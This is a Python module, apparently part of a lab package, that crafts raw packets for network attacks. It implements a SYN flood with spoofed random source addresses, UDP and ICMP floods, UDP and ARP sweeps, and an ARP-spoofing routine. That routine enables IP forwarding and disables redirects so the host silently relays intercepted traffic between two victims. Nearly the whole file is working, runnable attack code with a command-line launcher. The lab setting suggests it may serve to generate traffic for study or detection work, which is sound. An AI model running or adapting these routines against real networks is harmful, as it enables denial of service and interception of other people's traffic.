"""Floods, sweeps and spoofing made packet by packet (RFC 791, 9293, 826)."""

from __future__ import annotations

import socket
import struct
import time
from random import Random

from wirespeak.lab.attacks.start import Pace, start

# MSS, SACK permitted, timestamps, window scale (RFC 9293, 2018, 7323)
_OPTIONS = b"\x02\x04\x05\xb4\x04\x02\x08\x0a%b\0\0\0\0\x01\x03\x03\x07"


def checksum(data: bytes) -> int:
    """The Internet checksum (RFC 1071)."""
    data += b"\0" * (len(data) % 2)
    total: int = sum(struct.unpack(f">{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def syn_flood(
    *,
    target: str,
    ports: list[int],
    rate: float,
    count: int,
    source: str,
    bare: bool,
    size: int,
    seed: int,
    ttl: int,
) -> None:
    """SYNs with MSS, SACK, timestamp and window scale, as a real system sends, or `bare` of options, with `size`
    bytes of data at most. Source "" is another one each time."""
    random, pace = Random(seed), Pace(rate)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for _ in range(count):
            sender = (
                socket.inet_aton(source)
                if source
                else bytes((random.choice((45, 81, 102, 144, 185, 203)), *random.randbytes(3)))
            )
            options = b"" if bare else _OPTIONS % random.randbytes(4)
            head = (
                struct.pack(
                    ">HHIIBBHHH",
                    random.randint(1024, 65535),
                    random.choice(ports),
                    random.getrandbits(32),
                    0,
                    (5 + len(options) // 4) << 4,
                    2,
                    64240,
                    0,
                    0,
                )
                + options
                + random.randbytes(size)
            )
            pseudo = sender + socket.inet_aton(target) + struct.pack(">BBH", 0, 6, len(head))
            head = head[:16] + struct.pack(">H", checksum(pseudo + head)) + head[18:]
            packet = (
                struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(head), random.getrandbits(16), 0x4000, ttl, 6, 0)
                + sender
                + socket.inet_aton(target)
            )
            raw.sendto(packet + head, (target, 0))
            time.sleep(pace.wait_s())


def udp_flood(*, target: str, port: int, rate: float, count: int, size: int, sockets: int, seed: int) -> None:
    """Datagrams of random bytes, `size` at most, from some sockets. Port 0: another port each time."""
    random, pace = Random(seed), Pace(rate)
    opened = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(sockets)]
    for number in range(count):
        opened[number % sockets].sendto(random.randbytes(size), (target, port or random.randint(1, 65535)))
        time.sleep(pace.wait_s())


def udp_sweep(*, targets: list[str], port: int, rate: float, size: int, seed: int) -> None:
    """One datagram of random bytes to a port of each address, in any order."""
    random, pace = Random(seed), Pace(rate)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as opened:
        for target in random.sample(targets, len(targets)):
            opened.sendto(random.randbytes(size), (target, port))
            time.sleep(pace.wait_s())


def icmp_flood(*, target: str, rate: float, count: int, size: int, identities: int, seed: int) -> None:
    """Echo requests under many identifiers."""
    random, pace = Random(seed), Pace(rate)
    known = [random.getrandbits(16) for _ in range(identities)]
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as raw:
        for number in range(count):
            body = struct.pack(">HH", random.choice(known), number & 0xFFFF) + random.randbytes(size)
            sum_ = checksum(b"\x08\0\0\0" + body)
            raw.sendto(struct.pack(">BBH", 8, 0, sum_) + body, (target, 0))
            time.sleep(pace.wait_s())


def _mac(text: str) -> bytes:
    return bytes.fromhex(text.replace(":", ""))


def _arp(operation: int, sender_mac: str, sender: str, target_mac: str, target: str, *, to: str) -> bytes:
    body = (
        struct.pack(">HHBBH", 1, 0x0800, 6, 4, operation)
        + _mac(sender_mac)
        + socket.inet_aton(sender)
        + _mac(target_mac)
        + socket.inet_aton(target)
    )
    return _mac(to) + _mac(sender_mac) + b"\x08\x06" + body


def arp_sweep(*, targets: list[str], rate: float, shuffled: bool, mac: str, address: str, seed: int) -> None:
    """Who has each of these addresses?"""
    if shuffled:
        Random(seed).shuffle(targets)
    pace = Pace(rate)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
        raw.bind(("eth0", 0))
        for target in targets:
            raw.send(_arp(1, mac, address, "00:00:00:00:00:00", target, to="ff:ff:ff:ff:ff:ff"))
            time.sleep(pace.wait_s())


def arp_spoof(
    *,
    mac: str,
    one: list[str],
    other: list[str],
    interval: float,
    both: bool,
    request: bool,
    gratuitous: bool,
    seconds: float,
) -> None:
    """Claim each end's address to the other, by reply, request or announcement; the kernel relays. Repair at the end."""
    for name in ("all", "eth0"):
        with open(f"/proc/sys/net/ipv4/conf/{name}/send_redirects", "w") as setting:
            setting.write("0")
    with open("/proc/sys/net/ipv4/ip_forward", "w") as setting:
        setting.write("1")
    everyone = "ff:ff:ff:ff:ff:ff"
    pairs = [(one, other), (other, one)] if both else [(one, other)]
    end = time.monotonic() + seconds
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
        raw.bind(("eth0", 0))
        while time.monotonic() < end:
            for victim, claimed in pairs:
                if gratuitous:
                    raw.send(_arp(2, mac, claimed[0], everyone, claimed[0], to=everyone))
                elif request:
                    raw.send(_arp(1, mac, claimed[0], "00:00:00:00:00:00", victim[0], to=victim[1]))
                else:
                    raw.send(_arp(2, mac, claimed[0], victim[1], victim[0], to=victim[1]))
            time.sleep(interval)


if __name__ == "__main__":
    start(syn_flood, udp_flood, udp_sweep, icmp_flood, arp_sweep, arp_spoof)
